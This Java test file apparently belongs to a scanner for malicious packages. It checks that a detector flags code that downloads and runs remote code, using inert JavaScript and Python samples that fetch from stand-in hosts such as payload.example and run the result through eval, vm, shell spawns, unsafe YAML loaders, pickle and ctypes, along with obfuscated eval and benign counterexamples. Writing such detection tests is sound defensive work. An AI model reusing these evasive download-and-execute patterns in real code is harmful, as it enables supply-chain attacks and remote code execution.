package dev.countersign.lure.code;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Ways in which what was fetched is run that do not look like it. The samples are inert. */
class WaysRoundTest {
  private record Way(String name, String file, String code) {}

  private static final List<Way> WAYS =
      List.of(
          new Way(
              "the maker of an asynchronous function",
              "a.js",
              """
              const Made = (async () => {}).constructor;
              fetch('https://payload.example/m').then(r => r.text()).then(t => new Made('require', t)(require));
              """),
          new Way(
              "a module that stands in its address",
              "a.mjs",
              """
              import got from 'got';
              const answer = await got('https://payload.example/m');
              await import(`data:text/javascript,${encodeURIComponent(answer.body)}`);
              """),
          new Way(
              "pieces put together, given to a script of vm",
              "a.js",
              """
              const vm = require('node:vm');
              require('node:https').get('https://payload.example/m', (res) => {
                const parts = [];
                res.on('data', c => parts.push(c));
                res.on('end', () => new vm.Script(Buffer.concat(parts).toString()).runInNewContext({ require }));
              });
              """),
          new Way(
              "a file that is written and loaded",
              "a.js",
              """
              const fs = require('fs'), path = require('path');
              const p = path.join(require('os').tmpdir(), 'u.js');
              fetch('https://payload.example/m').then(r => r.text()).then(t => { fs.writeFileSync(p, t); require(p); });
              """),
          new Way(
              "what an interpreter is told",
              "a.js",
              """
              const { spawn } = require('child_process');
              fetch('https://payload.example/m').then(r => r.text()).then(t => {
                const c = spawn(process.execPath, ['-'], { detached: true });
                c.stdin.write(t);
              });
              """),
          new Way(
              "below child_process",
              "a.js",
              """
              const { spawn } = process.binding('spawn_sync');
              fetch('https://payload.example/m').then(r => r.text())
                .then(t => spawn({ file: '/bin/sh', args: ['sh', '-c', t], stdio: [] }));
              """),
          new Way(
              "a contract of a chain",
              "a.js",
              """
              const Web3 = require('web3');
              const w = new Web3('https://rpc.payload.example');
              const c = new w.eth.Contract([], '0x0000000000000000000000000000000000000001');
              c.methods.get().call().then(s => eval(s));
              """),
          new Way(
              "a data base",
              "a.js",
              """
              const { MongoClient } = require('mongodb');
              (async () => {
                const c = new MongoClient('mongodb+srv://u@c.payload.example');
                const d = await c.db('a').collection('s').findOne({ k: 'init' });
                new Function('require', d.code)(require);
              })();
              """),
          new Way(
              "what a template writes into its code",
              "a.js",
              """
              const ejs = require('ejs'), axios = require('axios');
              axios.get('https://payload.example/m').then(({ data }) =>
                ejs.render('<%= a %>', { a: 1 }, { client: true, escapeFunction: data.escape }));
              """),
          new Way(
              "YAML of JavaScript with functions",
              "a.js",
              """
              const yaml = require('js-yaml'), axios = require('axios');
              axios.get('https://payload.example/m').then(r => yaml.load(r.data, { schema: yaml.DEFAULT_FULL_SCHEMA }));
              """),
          new Way(
              "YAML with any object",
              "a.py",
              """
              import requests, yaml
              r = requests.get('https://stocks.payload.example/v1')
              data = yaml.load(r.text, Loader=yaml.UnsafeLoader)
              """),
          new Way(
              "YAML with any object, by names of its own",
              "a.py",
              """
              from yaml import load, Loader
              from urllib.request import urlopen
              load(urlopen('https://stocks.payload.example/v1').read(), Loader)
              """),
          new Way(
              "YAML by the function for any object",
              "a.py",
              """
              import requests, yaml as y
              y.unsafe_load(requests.get('https://stocks.payload.example/v1').content)
              """),
          new Way(
              "a pickle read by its reader",
              "a.py",
              """
              import requests, pickle, io
              pickle.Unpickler(io.BytesIO(requests.get('https://payload.example/m').content)).load()
              """),
          new Way(
              "exec by its entry in a dictionary",
              "a.py",
              """
              import urllib.request as u
              __builtins__.__dict__['exec'](u.urlopen('https://payload.example/m').read())
              """),
          new Way(
              "a file without a name",
              "a.py",
              """
              import requests, subprocess, sys, tempfile
              f = tempfile.NamedTemporaryFile(delete=False, suffix='.py')
              f.write(requests.get('https://payload.example/m').content)
              f.close()
              subprocess.Popen([sys.executable, f.name])
              """),
          new Way(
              "a module made of a file",
              "a.py",
              """
              import requests, importlib.util
              open('out/mod.py', 'w').write(requests.get('https://payload.example/m').text)
              spec = importlib.util.spec_from_file_location('mod', 'out/mod.py')
              spec.loader.exec_module(importlib.util.module_from_spec(spec))
              """),
          new Way(
              "a compiled library",
              "a.py",
              """
              import requests, ctypes
              open('out/a.so', 'wb').write(requests.get('https://payload.example/m').content)
              ctypes.CDLL('out/a.so')
              """));

  @TestFactory
  Stream<DynamicTest> whatWasFetchedIsSeenToRun() {
    return WAYS.stream()
        .map(way ->
            DynamicTest.dynamicTest(
                way.name(),
                () ->
                    assertThat(Samples.onLoad(way.file(), way.code()))
                        .contains(Kind.RUNS_FETCHED_CODE)));
  }

  private static final List<Way> HONEST =
      List.of(
          new Way(
              "a program that something is piped into",
              "a.js",
              """
              const { spawn } = require('child_process');
              const p = spawn('tar', ['-x']);
              require('https').get('https://api.example/x', r => r.pipe(p.stdin));
              """),
          new Way(
              "an object's own class",
              "a.js",
              """
              function Component(props) { return this.constructor(props); }
              function same(value, data) { return new value.constructor(data); }
              const C = this.constructor;
              fetch('https://api.example/x').then(r => r.json()).then(d => { Component(d); same(d, d); C(d); });
              eval;
              """),
          new Way(
              "YAML that makes no objects",
              "a.py",
              """
              import requests, yaml
              yaml.load(requests.get('https://api.example/x').text, Loader=yaml.SafeLoader)
              """),
          new Way(
              "YAML of JavaScript without functions",
              "a.js",
              """
              const yaml = require('js-yaml'), axios = require('axios'), fs = require('fs');
              axios.get('https://api.example/x').then(r => fs.writeFileSync('x', yaml.load(r.data)));
              """),
          new Way(
              "a program that is told something",
              "a.js",
              """
              const { spawn } = require('child_process');
              fetch('https://api.example/x').then(r => r.text()).then(t => {
                const c = spawn('tar', ['-x', '-']);
                c.stdin.write(t);
              });
              """),
          new Way(
              "a template without options of others",
              "a.js",
              """
              const ejs = require('ejs'), axios = require('axios');
              axios.get('https://api.example/x').then(({ data }) =>
                ejs.render('<%= a %>', { a: data.a }, { escapeFunction: String }));
              """));

  @TestFactory
  Stream<DynamicTest> honestCodeIsNot() {
    return HONEST.stream()
        .map(way ->
            DynamicTest.dynamicTest(
                way.name(),
                () ->
                    assertThat(Samples.all(way.file(), way.code()))
                        .doesNotContain(Kind.RUNS_FETCHED_CODE)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "const a = [108, 118, 104]; for (let i = 0; i < 3; i++) s += String.fromCharCode(a[i] - 7);",
        "const a = 'hydo+4,'; for (let i = 0; i < 3; i++) s += String.fromCharCode(a.charCodeAt(i) - 3);",
        "const a = '616c65'; for (let i = 0; i < 6; i += 2) s += String.fromCharCode(parseInt(a.substr(i, 2), 16));"
      })
  void charactersMadeOfWhatTheFileHoldsAreDecoded(String made) {
    assertThat(Samples.onLoad("a.js", "let s = ''; " + made + " eval(s);"))
        .contains(Kind.RUNS_DECODED_CODE);
  }

  @Test
  void charactersMadeOfMemoryArePerhapsDecoded() {
    String code =
        """
        function text(heap, p) {
          let s = '';
          while (heap[p]) { s += String.fromCharCode(((heap[p++] & 31) << 6) | (heap[p++] & 63)); }
          return s;
        }
        module.exports = (heap, p) => eval('(' + text(heap, p) + ')');
        """;
    assertThat(Samples.read("a.js", code))
        .filteredOn(one -> one.kind() == Kind.RUNS_DECODED_CODE)
        .isNotEmpty()
        .allMatch(one -> one.sure() == Sureness.POSSIBLE);
  }

  @Test
  void aModuleNamedByTheNetworkIsNoCodeYet() {
    assertThat(
            Samples.onLoad(
                "a.mjs",
                "fetch('https://api.example/x').then(r => r.json()).then(d => import(d.module));"))
        .contains(Kind.LOADS_BY_FETCHED_NAME)
        .doesNotContain(Kind.RUNS_FETCHED_CODE);
  }
}
